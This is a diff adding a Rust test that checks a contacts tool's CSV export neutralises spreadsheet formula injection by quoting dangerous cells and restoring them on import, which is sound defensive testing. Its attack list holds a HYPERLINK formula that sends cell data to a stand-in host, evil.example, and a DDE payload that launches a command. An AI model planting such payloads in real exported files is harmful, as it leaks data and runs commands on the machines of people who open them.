@@ -146,3 +146,65 @@ fn the_schedule_exports_as_icalendar_that_a_second_parser_reads() {
     let text = std::fs::read_to_string(&file).unwrap();
     assert!(text.lines().all(|l| l.len() <= 76), "folded at 75 octets");
 }
+
+/// Issue 24: a cell a spreadsheet would run as a formula is exported behind a `'` (as Python's
+/// csv module, a reader we did not write, sees it), a phone number is not, and importing our own
+/// export gives the values back without the quote.
+#[test]
+fn formula_cells_are_exported_behind_a_quote_and_import_back_as_they_were() {
+    let attacks = [
+        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
+        "@SUM(1)",
+        "-2+3",
+        "+cmd|' /C calc'!A0",
+    ];
+    let a = Home::empty();
+    a.ok(&["init", "--name", "Ann"]);
+    for attack in attacks {
+        a.ok(&[
+            "add",
+            "contact",
+            &format!("name={attack}"),
+            &format!("job_title={attack}"),
+            "phones=+46 70 123 45 67",
+        ]);
+    }
+    let file = a.path("contacts.csv");
+    a.ok(&["export", "csv", "contact", "-o", file.to_str().unwrap()]);
+
+    crate::support::require_tool("python3");
+    let script = "import csv, json, sys\nprint(json.dumps(list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))))\n";
+    let out = std::process::Command::new("python3")
+        .args(["-c", script])
+        .arg(&file)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let rows: Vec<std::collections::BTreeMap<String, String>> =
+        serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(rows.len(), attacks.len());
+    for attack in attacks {
+        let row = rows
+            .iter()
+            .find(|r| r["name"] == format!("'{attack}"))
+            .unwrap_or_else(|| panic!("{attack} neutralised in {rows:?}"));
+        assert_eq!(row["job_title"], format!("'{attack}"));
+        assert_eq!(row["phones"], "+46 70 123 45 67", "a phone stays readable");
+    }
+
+    let b = Home::empty();
+    b.ok(&["init", "--name", "Sam"]);
+    b.ok(&["import", "csv", "contact", file.to_str().unwrap()]);
+    assert_eq!(fields_of(&a, "contact"), fields_of(&b, "contact"));
+    let names: Vec<String> = fields_of(&b, "contact")
+        .iter()
+        .map(|c| c["fields"]["name"].as_str().unwrap_or("").to_string())
+        .collect();
+    for attack in attacks {
+        assert!(names.iter().any(|n| n == attack), "{attack} in {names:?}");
+    }
+}
